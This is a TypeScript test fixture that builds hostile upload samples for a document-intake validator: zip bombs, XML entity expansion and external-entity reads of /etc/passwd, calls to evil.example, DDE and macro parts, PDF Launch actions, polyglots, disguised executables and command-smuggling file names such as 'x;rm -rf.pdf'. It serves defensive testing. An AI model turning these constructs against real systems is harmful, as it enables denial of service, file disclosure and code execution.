import { deflateRawSync } from 'node:zlib'
import { zipSync } from 'fflate'
import { docxOf, jpegOf, ofdOf, packedObjects, pdfOf, plainPdf, pngOf, xlsxOf, zipOf } from '../../sample-files.ts'

/** Files as somebody with bad intent sends them. What they carry is harmless here: the shape is what counts. */
export interface Hostile {
  kind: string
  name: string
  bytes: Buffer
  /** A paper with this in it is no paper, whatever its name says; otherwise it is odd, and must only bring nothing down. */
  neverTaken: boolean
}

const of = (kind: string, files: readonly (readonly [name: string, bytes: Buffer])[], neverTaken = true): Hostile[] => files.map(([name, bytes]) => ({ kind, name, bytes, neverTaken }))
const latin = (text: string): Buffer => Buffer.from(text, 'latin1')

const whole: readonly (readonly [extension: string, bytes: () => Buffer])[] = [
  ['pdf', () => plainPdf()], ['jpg', () => jpegOf(40, 30, 'Exif')], ['png', () => pngOf(24, 24)], ['docx', () => docxOf()], ['xlsx', () => xlsxOf()], ['ofd', () => ofdOf()],
]
const archives: readonly (readonly [extension: string, make: (more: Record<string, string | Uint8Array>) => Buffer, part: string])[] = [['docx', docxOf, 'word/document.xml'], ['xlsx', xlsxOf, 'xl/worksheets/sheet1.xml'], ['ofd', ofdOf, 'Doc_0/Page.xml']]

const wrongExtensions = whole.flatMap(([own, bytes]) => of('wrong extension', [...whole.map(([other]) => other), 'exe', 'html', 'svg', 'docm', 'pdf.exe', ''].filter((other) => other !== own).map((other) => [`材料${other ? '.' : ''}${other}`, bytes()] as const)))

const truncated = whole.flatMap(([extension, bytes]) => {
  const all = bytes()
  return of('truncated', [0.02, 0.25, 0.5, 0.75, 0.95].map((share) => [`材料.${extension}`, all.subarray(0, Math.max(3, Math.floor(all.length * share)))] as const))
})

/** One part that is packed already: its entry is stored, then called deflated. */
const bombOf = (part: string, megabytes: number, fill: number): Buffer => {
  const packed = deflateRawSync(Buffer.alloc(megabytes * 1024 * 1024, fill))
  const zip = Buffer.from(zipSync({ [part]: packed }, { level: 0 }))
  zip.writeUInt16LE(8, 8)
  zip.writeUInt16LE(8, zip.readUInt32LE(zip.length - 22 + 16) + 10)
  return zip
}
const bombs = archives.flatMap(([extension, make, part]) => [
  ...of('zip bomb', [[`大.${extension}`, bombOf(part, 260, 0x20)]]),
  ...of('zip bomb', [[`多.${extension}`, make(Object.fromEntries(Array.from({ length: 12_000 }, (_, at) => [`x/${at}.xml`, ''])))]]),
  ...of('zip bomb', [[`套.${extension}`, make({ 'word/embeddings/inner.zip': zipOf({ 'a.zip': bombOf('a', 8, 0) }) })]]),
])

const laughs = `<!DOCTYPE x [<!ENTITY a0 "哈哈">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]><x>&a12;</x>`
const declared: readonly string[] = [
  laughs, '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>', `<!DOCTYPE x [<!ENTITY q "${'甲'.repeat(50_000)}">]><x>${'&q;'.repeat(2_000)}</x>`,
]
const entities = archives.flatMap(([extension, make, part]) => of('XML entities', declared.map((xml) => [`实体.${extension}`, make({ [part]: xml })] as const)))

const deep = '<a>'.repeat(60_000) + '</a>'.repeat(60_000)
const nested = [
  ...of('deep nesting', archives.map(([extension, make, part]) => [`深.${extension}`, make({ [part]: deep })] as const), false),
  ...of('deep nesting', [['深.pdf', pdfOf([`<< /Type /Catalog /X ${'['.repeat(50_000)}${']'.repeat(50_000)} >>`])], ['深.pdf', pdfOf([`<< ${'/A << '.repeat(20_000)}${'>> '.repeat(20_000)}>>`])]], false),
]

const acting: Readonly<Record<string, Record<string, string>>> = {
  macros: { 'word/vbaProject.bin': 'x' },
  'macro sheet': { 'xl/macrosheets/sheet1.xml': '<x/>' },
  'type of macros': { '[Content_Types].xml': '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' },
  'embedded object': { 'word/embeddings/oleObject1.bin': 'x' },
  'remote template': { 'word/_rels/settings.xml.rels': '<Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' },
  DDE: { 'word/header1.xml': '<w:instrText>DDEAUTO cmd</w:instrText>' },
  'DDE link': { 'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>' },
}
const macros = [docxOf, xlsxOf].flatMap((make, at) => Object.entries(acting).flatMap(([kind, parts]) => of(kind, [[`动.${at === 0 ? 'docx' : 'xlsx'}`, make(parts)]])))

const paths = ['../../etc/passwd', '..\\..\\windows\\x', '//etc/passwd', 'C:\\x', 'word/../../x']
const traversal = archives.flatMap(([extension, make]) => of('path in the archive', paths.map((path) => [`路径.${extension}`, make({ [path]: 'x' })] as const)))

const pdf = (more: string) => pdfOf([`<< /Type /Catalog ${more} >>`])
const actingPdf = of('acting PDF', [
  pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), pdf('/OpenAction << /S /J#61vaScript /JS (1) >>'), pdf('/OpenAction << /S /Rendition /JS (x) >>'), pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), pdf('/AA << /O << /S /SubmitForm >> >>'),
  pdf('/Names << /EmbeddedFiles << >> >>'), pdf('/AcroForm << /XFA 5 0 R >>'), pdfOf(['<< /Type /Catalog >>', packedObjects('<< /S /JavaScript >>')]), pdfOf(['<< /Type /Catalog >>', packedObjects('<< /S /Launch /F (cmd.exe) >>')]),
  latin(plainPdf().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R')), pdfOf(['<< >>', packedObjects(' '.repeat(101 * 1024 * 1024))]),
].map((bytes) => ['动.pdf', bytes] as const))

const script = '<script>alert(1)</script>'
const polyglots = of('polyglot', [
  ['双.pdf', Buffer.concat([plainPdf(), docxOf()])], ['双.pdf', Buffer.concat([latin('GIF89a'), plainPdf()])], ['双.pdf', Buffer.concat([plainPdf(), latin(script)])], ['双.pdf', Buffer.concat([plainPdf(), latin('MZ\u0090')])],
  ['双.jpg', Buffer.concat([jpegOf(10, 10), zipOf({ 'a.txt': 'x' })])], ['双.jpg', jpegOf(10, 10, '%PDF-1.7 ')], ['双.jpg', jpegOf(10, 10, script)], ['双.jpg', Buffer.concat([jpegOf(10, 10), plainPdf()])],
  ['双.png', Buffer.concat([pngOf(8, 8), latin(script)])], ['双.png', Buffer.concat([pngOf(8, 8), zipOf({ 'a.txt': 'x' })])], ['双.docx', Buffer.concat([docxOf(), latin('more')])], ['双.docx', Buffer.concat([docxOf({ 'word/vbaProject.bin': 'x' }), docxOf()])],
  ['双.docx', docxOf({ 'OFD.xml': '<x/>' })], ['双.xlsx', Buffer.concat([latin('MZ'), xlsxOf()])], ['双.ofd', Buffer.concat([ofdOf(), plainPdf()])], ['双.docx', docxOf({ 'WORD/document.xml': 'x' })],
])

const dimensions = of('dimensions', [
  ...[[50_000, 50_000], [65_535, 65_535], [2_000_000_000, 2], [2, 2_000_000_000]].map(([width = 0, height = 0]) => ['大.png', pngOf(width, height)] as const),
  ...[[60_000, 60_000], [65_535, 65_535]].map(([width = 0, height = 0]) => ['大.jpg', jpegOf(width, height)] as const),
])

const heads: Readonly<Record<string, string>> = {
  'a program': 'MZ\u0090\u0000\u0003', 'a Linux program': '\u007fELF\u0002\u0001', 'a script': '#!/bin/sh\nrm -rf x', 'a class': '\u00ca\u00fe\u00ba\u00be\u0000\u0000', 'a module': '\u0000asm\u0001', 'an old workbook': '\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1', 'a GIF': 'GIF89a\u0001\u0000', 'a bitmap': 'BM\u0000\u0000',
  'a page': '<html><script>alert(1)</script>', 'a drawing': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'rich text': '{\\rtf1 {\\object x}}', 'an old archive': 'Rar!\u001a\u0007', 'a 7z': '7z\u00bc\u00af\u0027\u001c', 'gzip': '\u001f\u008b\u0008\u0000', 'HEIC': '\u0000\u0000\u0000\u0018ftypheic', 'nothing': '', 'zeros': '\u0000'.repeat(4096),
}
const masked = Object.entries(heads).flatMap(([kind, head]) => of(`${kind} in disguise`, ['pdf', 'jpg', 'docx'].map((extension) => [`假.${extension}`, latin(head)] as const)))

const fonts = of('broken font', [
  ['字.pdf', pdfOf(['<< /Type /Catalog >>', '<< /Type /FontDescriptor /FontFile2 3 0 R >>', '<< /Length 4 >>\nstream\n\u0000\u0001\u00ff\u00ff\nendstream'])], ['字.docx', docxOf({ 'word/fonts/font1.odttf': new Uint8Array([0, 1, 255, 255]) })], ['字.ofd', ofdOf({ 'Doc_0/Res/font.ttf': new Uint8Array(64) })],
], false)

/** Sheets that lie: for the roads that read rows. */
const sheet = (xml: string, more: Record<string, string> = {}): Buffer =>
  xlsxOf({ 'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>', 'xl/_rels/workbook.xml.rels': '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>', 'xl/worksheets/sheet1.xml': xml, ...more })
const cells = (inner: string) => `<worksheet><sheetData>${inner}</sheetData></worksheet>`
const sheets = of('lying sheet', [
  ['表.xlsx', sheet(cells('<row r="1"><c r="ZZZZ1"><v>1</v></c></row>'))], ['表.xlsx', sheet(cells('<row r="99999999"><c><v>1</v></c></row>'))], ['表.xlsx', sheet(cells('<row r="1"><c t="s"><v>99999999</v></c></row>'))], ['表.xlsx', sheet(cells('<row r="-1"><c r="A-1" t="s"><v>-1</v></c></row>'))],
  ['表.xlsx', sheet(cells('<row r="1"><c><f>WEBSERVICE("http://evil.example")</f></c></row>'))], ['表.xlsx', sheet(cells(`<row r="1"><c t="inlineStr"><is><t>${'长'.repeat(100_000)}</t></is></c></row>`))], ['表.xlsx', sheet(cells(`<row r="1">${'<c><v>1</v></c>'.repeat(20_000)}</row>`))], ['表.xlsx', sheet(cells('<row r="1"><c'))],
  ['表.xlsx', sheet('<worksheet>', { 'xl/_rels/workbook.xml.rels': '<Relationships><Relationship Id="rId1" Target="../../../../etc/passwd"/></Relationships>' })], ['表.xlsx', sheet(cells('<row r="1"><c s="99"><v>1e308</v></c><c><v>NaN</v></c></row>'))],
  ['表.csv', Buffer.from(`姓名,"${'甲'.repeat(1000)}`)], ['表.csv', Buffer.from(`${','.repeat(100_000)}\n`)], ['表.csv', Buffer.from([0xff, 0xfe, 0x00])], ['表.csv', Buffer.from('"'.repeat(99_999))], ['表.csv', Buffer.from([0x81, 0xff, 0x82, 0x2c, 0x0a])],
], false)

/** Names that mean another place or another type; the file itself is in order. */
export const trickyNames = ['../../../etc/passwd.pdf', '..\\..\\boot.pdf', '/etc/cron.d/x.pdf', '合同\u202efdp.exe.pdf', 'a\r\nx-evil: 1.pdf', `${'长'.repeat(400)}.pdf`, 'CON.pdf', '.pdf', 'x;rm -rf.pdf', '甲\u0007乙.pdf']

export const hostileFiles = (): Hostile[] => [...wrongExtensions, ...truncated, ...bombs, ...entities, ...nested, ...macros, ...traversal, ...actingPdf, ...polyglots, ...dimensions, ...masked, ...fonts, ...sheets]
